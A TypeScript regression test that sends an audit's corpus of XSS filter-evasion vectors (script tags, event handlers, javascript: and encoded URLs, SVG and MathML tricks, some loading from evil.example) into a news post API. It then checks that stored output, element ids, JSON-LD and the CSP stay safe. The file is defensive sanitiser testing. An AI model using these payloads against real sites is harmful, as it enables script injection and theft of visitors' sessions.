/**
 * The audit's XSS corpus, kept as a regression test: filter-evasion vectors sent into a rich-text
 * field and a plain-text field of a news post. Whatever is stored and served back must hold no
 * executable markup: no script-capable element, no event handler, no style, and links and images
 * only to http(s), mail, phone or our own paths.
 *
 * Then the rendered pages (docs/decisions/0011): text that becomes an element id or a heading
 * (block titles, light categories, specification labels) written as an id or a global the
 * page's code uses gets an id in the content namespace and runs nothing; text that ends up in
 * the JSON-LD cannot close its element; and a script that got into stored content past the
 * sanitiser is in the page, but not in its policy.
 */
import { createHash } from 'node:crypto';
import { eq, sql } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { LOADER, LOADER_HASH } from '../../app/defer-hydration.server';
import { sections } from '../../server/db/schema';
import { PAYLOAD, reservedTitles, RESERVED_IDS } from '../helpers/reserved-ids';
import { pagesApp } from '../helpers/signed-in-app';
import { requestAs, type Method } from '../helpers/test-app';

const ctx = pagesApp();

const asSuper = (method: Method, url: string, payload?: object) =>
  requestAs(ctx.app, ctx.sup, method, url, payload);

const vectors = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<script/xss src="https://evil.example/x.js"></script>',
  '<<SCRIPT>alert(2);//<</SCRIPT>',
  '<img src=x onerror=alert(3)>',
  '<img src="x" onerror="alert(4)" />',
  '<IMG SRC="javascript:alert(5);">',
  '<img src=javascript:alert(6)>',
  '<img src=JaVaScRiPt:alert(7)>',
  '<img src=`javascript:alert(8)`>',
  '<img """><script>alert(9)</script>">',
  '<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(10)>',
  '<img src="jav&#x09;ascript:alert(11);">',
  '<img src="jav&#x0A;ascript:alert(12);">',
  '<img src=" &#14;  javascript:alert(13);">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMTQpPg==">',
  '<img dynsrc="javascript:alert(15)">',
  '<img lowsrc="javascript:alert(16)">',
  '<svg onload=alert(17)>',
  '<svg><script>alert(18)</script></svg>',
  '<svg><a xlink:href="javascript:alert(19)"><text x="20" y="20">x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(20)></style></mglyph></table></mtext></math>',
  '<math><mi xlink:href="javascript:alert(21)">x</mi></math>',
  '<iframe src="javascript:alert(22)"></iframe>',
  '<iframe srcdoc="<script>alert(23)</script>"></iframe>',
  '<object data="javascript:alert(24)"></object>',
  '<embed src="javascript:alert(25)">',
  '<a href="javascript:alert(26)">x</a>',
  '<a href="JAVASCRIPT:alert(27)">x</a>',
  '<a href=" javascript:alert(28)">x</a>',
  '<a href="jav&#x09;ascript:alert(29)">x</a>',
  '<a href="jav&#9;ascript:alert(30)">x</a>',
  '<a href="&#106;avascript:alert(31)">x</a>',
  '<a href="javascript&colon;alert(32)">x</a>',
  '<a href="vbscript:msgbox(33)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgzNCk8L3NjcmlwdD4=">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="https://ok.example" onclick="alert(35)">x</a>',
  '<a href="https://ok.example" onmouseover=alert(36)>x</a>',
  '<p onmouseover="alert(37)">x</p>',
  '<p style="background:url(javascript:alert(38))">x</p>',
  '<p style="width:expression(alert(39))">x</p>',
  '<div style="behavior:url(x.htc)">x</div>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(40)">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><button>x</button></form>',
  '<input onfocus=alert(41) autofocus>',
  '<body onload=alert(42)>',
  '<details open ontoggle=alert(43)>',
  '<video><source onerror="alert(44)"></video>',
  '<audio src=x onerror=alert(45)>',
  '<marquee onstart=alert(46)>x</marquee>',
  '<table background="javascript:alert(47)"><tr><td>x</td></tr></table>',
  '<div><![CDATA[<script>alert(48)</script>]]></div>',
  '<!--<img src="--><img src=x onerror=alert(49)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(50)>"></noscript>',
  '<template><script>alert(51)</script></template>',
  '<xmp><img src=x onerror=alert(52)></xmp>',
  '<p>"><script>alert(53)</script></p>',
  "<p>'';!--\"<XSS>=&{()}</p>",
  '<a href="https://ok.example" target="_blank">new tab</a>',
  '<h1>heading</h1><ul><li>item</li></ul><strong>ok</strong>',
];

/** Markup in `html` that could run script, style the page, or send a visitor elsewhere. */
function executable(html: string): string[] {
  const found: string[] = [];
  const tags = /<\/?\s*([a-z][\w:-]*)([^>]*)>/gi;
  for (const [whole, name = '', attrs = ''] of html.matchAll(tags)) {
    const tag = name.toLowerCase();
    if (
      /^(script|iframe|object|embed|svg|math|style|link|meta|base|form|input|button|body|video|audio|source|details|marquee|template|noscript|xmp|table)$/.test(
        tag,
      )
    )
      found.push(`element ${whole}`);
    if (/\son[a-z]+\s*=/i.test(attrs)) found.push(`handler ${whole}`);
    if (/\sstyle\s*=/i.test(attrs)) found.push(`style ${whole}`);
    for (const [, attr = '', value = ''] of attrs.matchAll(
      /\s(href|src|dynsrc|lowsrc|xlink:href|action|data|background|srcdoc)\s*=\s*("[^"]*"|'[^']*'|[^\s>]+)/gi,
    )) {
      const url = value
        .replace(/^["']|["']$/g, '')
        .replace(/&#x?[0-9a-f]+;?|&colon;|&tab;|&newline;/gi, '?')
        // Browsers drop whitespace and control characters inside a URL's scheme.
        // eslint-disable-next-line no-control-regex
        .replace(/[\s\u0000-\u001f]/g, '');
      const safe =
        /^(https?:|mailto:|tel:)/i.test(url) ||
        (/^\//.test(url) && !/^\/[/\\]/.test(url)) ||
        /^#/.test(url);
      if (!safe || attr.toLowerCase() === 'srcdoc') found.push(`${attr}=${value} in ${whole}`);
    }
  }
  return found;
}

describe('the XSS corpus', () => {
  it('the detector itself sees the raw vectors as executable', () => {
    // All but the three harmless controls at the end: quotes as text, a safe link, plain markup.
    expect(vectors.filter((v) => executable(v).length === 0)).toEqual(vectors.slice(-3));
  });

  it(`${vectors.length} vectors into rich and plain text come back with nothing executable`, async () => {
    const problems: string[] = [];
    for (const [i, vector] of vectors.entries()) {
      const created = await asSuper('POST', '/api/v1/blog', {
        title: `Vector ${i}`,
        subtitle: vector.slice(0, 200),
        content: `<p>Before</p>${vector}`,
      });
      if (created.statusCode === 400) continue; // Refused outright: nothing stored.
      expect(created.statusCode, vector).toBe(201);
      const id = created.json().blog._id as string;
      const served = (await ctx.app.fastify.inject({ url: `/api/v1/blog/${id}` })).json().blog;
      for (const field of ['subtitle', 'content'] as const) {
        for (const p of executable(String(served[field])))
          problems.push(`${vector} → ${field}: ${p}`);
      }
      // Plain text holds no markup at all.
      expect(String(served.subtitle), vector).not.toMatch(/<[a-z!/?][^>]*>/i);
    }
    expect(problems).toEqual([]);
  });

  it('a safe link keeps working, opened in a new tab without access to this page', async () => {
    const created = await asSuper('POST', '/api/v1/blog', {
      title: 'Links',
      content: '<p><a href="https://ok.example" target="_blank">x</a></p>',
    });
    expect(created.json().blog.content).toBe(
      '<p><a href="https://ok.example" target="_blank" rel="noopener noreferrer">x</a></p>',
    );
  });
});

/**
 * A public page as a visitor gets it: its HTML and its policy's script-src. A page's first
 * render compiles its modules on demand (Vite) and, on a busy machine, can outlast the render
 * timeout (503, try again): it is asked again then.
 */
async function render(url: string) {
  let res = await ctx.app.fastify.inject({ url });
  for (let tries = 1; res.statusCode === 503 && tries < 4; tries++)
    res = await ctx.app.fastify.inject({ url });
  expect(res.statusCode, url).toBe(200);
  const policy = String(res.headers['content-security-policy'] ?? '');
  return { html: res.body, scripts: /script-src ([^;]+)/.exec(policy)?.[1] ?? '' };
}

/** The element ids of a page, record ids (UUIDs, not content) written as `<uuid>`. */
const idsOf = (html: string) =>
  [...html.matchAll(/\sid="([^"]*)"/g)].map((m) =>
    (m[1] ?? '').replace(/[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}/g, '<uuid>'),
  );

/** The inline scripts of a page a browser would run (not JSON). */
const runnable = (html: string) =>
  [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/gi)]
    .filter(([, attrs = '']) => !/type="application\/(ld\+)?json"/.test(attrs))
    .map(([, , text = '']) => text);

const jsonLd = (html: string) =>
  [...html.matchAll(/<script type="application\/ld\+json">([\s\S]*?)<\/script>/g)].map(
    (m) => m[1] ?? '',
  );

/** What a page's script-src must be: its nonce while fresh, then the loader's hash alone. */
const onlyTheLoader = new RegExp(
  `^(?:'nonce-[^']+' )?${LOADER_HASH.replace(/[+/=]/g, '\\$&')} 'strict-dynamic'$`,
);

const sha256 = (text: string) =>
  `'sha256-${createHash('sha256').update(text, 'utf8').digest('base64')}'`;

describe('rendered pages', () => {
  it('titles, categories and labels written as reserved ids or globals get ids under c- and run nothing', async () => {
    const titles = reservedTitles();
    const duro = '/products/lights-wiring/residential-and-commercial/lights/duro';
    const urls = ['/products/warehouse-storage', duro, '/products?family=enclosures'];
    // A product page as it is with plain text, to compare the new product's page with.
    const plain = await asSuper('POST', '/api/v1/catalogue/products', {
      name: 'Plain junction box',
      family: 'enclosures',
      summary: 'A box.',
      specs: [{ label: 'IP rating', value: 'IP66', filter: 'yes' }],
    });
    expect(plain.statusCode).toBe(201);
    const before = new Map<string, string[]>();
    for (const url of urls) before.set(url, idsOf((await render(url)).html));
    const plainIds = idsOf((await render(plain.json().product.url as string)).html);

    // The warehouse landing: its heading is its family's name, each block one of its products.
    const families = (await asSuper('GET', '/api/v1/catalogue/families')).json().families as {
      id: string;
      slug: string;
    }[];
    const warehouse = families.find((f) => f.slug === 'warehouse-storage');
    // No `>`: plain text keeps it (a whole tag or comment is removed on write).
    const heading = 'Storage </script <!-- racks';
    const saved = await asSuper('PATCH', `/api/v1/catalogue/families/${warehouse?.id}`, {
      name: heading,
    });
    expect(saved.statusCode).toBe(200);
    for (const title of titles) {
      const block = await asSuper('POST', '/api/v1/catalogue/products', {
        name: title,
        family: 'warehouse-storage',
        summary: PAYLOAD,
        body: `<p>${PAYLOAD}</p>`,
      });
      expect(block.statusCode, block.body).toBe(201);
    }

    // The Duro page's lights, by category (its anchors).
    const { products } = (
      await asSuper('GET', '/api/v1/catalogue/products?family=lights-wiring')
    ).json();
    const brand = (products as { id: string; url: string }[]).find((p) => p.url === duro)!;
    const items = (await asSuper('GET', `/api/v1/catalogue/products/${brand.id}`)).json().product
      .details.lightItems as object[];
    const patched = await asSuper('PATCH', `/api/v1/catalogue/products/${brand.id}`, {
      details: {
        lightItems: titles.map((category, i) => ({ ...items[i % items.length], category })),
      },
    });
    expect(patched.statusCode).toBe(200);

    const name = 'Junction </script <!-- box';
    const created = await asSuper('POST', '/api/v1/catalogue/products', {
      name,
      family: 'enclosures',
      summary: PAYLOAD,
      specs: titles.map((label) => ({ label, value: 'IP66', filter: 'yes' })),
    });
    expect(created.statusCode).toBe(201);
    const productUrl = created.json().product.url as string;
    before.set(productUrl, plainIds);

    const problems: string[] = [];
    for (const url of [...urls, productUrl]) {
      const { html, scripts } = await render(url);
      const ids = idsOf(html);
      // Content added ids under c- only; every other id was there before it.
      const earlier = new Set(before.get(url));
      for (const id of ids) {
        if (!id.startsWith('c-') && !earlier.has(id) && !id.startsWith('deferred-'))
          problems.push(`${url}: id "${id}" from content`);
      }
      for (const id of RESERVED_IDS) {
        const count = ids.filter((i) => i === id).length;
        if (count > (earlier.has(id) ? 1 : 0)) problems.push(`${url}: ${count} × id "${id}"`);
      }
      // The loader alone runs; the policy trusts it and nothing read off the page.
      expect(
        runnable(html).map((text) => text === LOADER || text.slice(0, 200)),
        url,
      ).toEqual([true]);
      expect(scripts, url).toMatch(onlyTheLoader);
      for (const ld of jsonLd(html)) {
        expect(ld, url).not.toMatch(/<\/script|<!--/i);
        expect(JSON.parse(ld), url).toBeTypeOf('object');
      }
    }
    expect(problems).toEqual([]);

    const ws = await render('/products/warehouse-storage');
    const wsIds = idsOf(ws.html);
    for (const id of ['c-rr-hydrate', 'c-main-heading', 'c-reactroutercontext'])
      expect(wsIds, id).toContain(id);
    expect(JSON.parse(jsonLd(ws.html)[0] ?? '{}').name).toBe(heading);
    const product = await render(productUrl);
    expect(JSON.parse(jsonLd(product.html)[0] ?? '{}').name).toBe(name);
    const jumps = [...(await render(duro)).html.matchAll(/href="[^"]*#([^"]+)"/g)].map(
      (m) => m[1] ?? '',
    );
    expect(jumps).toContain('c-rr-hydrate');
    expect(jumps.filter((j) => j !== 'main' && !j.startsWith('c-'))).toEqual([]);
  });

  it('a script stored past the sanitiser is in the page, but not in its policy', async () => {
    // As if the sanitiser had failed (or a row came from elsewhere): straight into the table.
    const injected = `<p>Before</p><script>${PAYLOAD}</script><script nonce="guess">${PAYLOAD}</script>`;
    const { db } = ctx.app.database;
    await db
      .update(sections)
      .set({ data: sql`jsonb_set(${sections.data}, '{body}', to_jsonb(${injected}::text))` })
      .where(eq(sections.key, 'careers/page'));

    const { html, scripts } = await render('/careers');
    expect(html.includes(`<script>${PAYLOAD}</script>`)).toBe(true);
    expect(html.includes(`<script nonce="guess">${PAYLOAD}</script>`)).toBe(true);
    expect(scripts).not.toContain(sha256(PAYLOAD));
    expect(scripts).toMatch(onlyTheLoader);
    expect(scripts).not.toContain("'nonce-guess'");
    // Nor does the loader run it: its data holds the render's own scripts only.
    expect(html.split(`<script>${PAYLOAD}</script>`)).toHaveLength(2);
    expect(html.replaceAll('\\"', '"').split(PAYLOAD)).toHaveLength(3);
  });
});
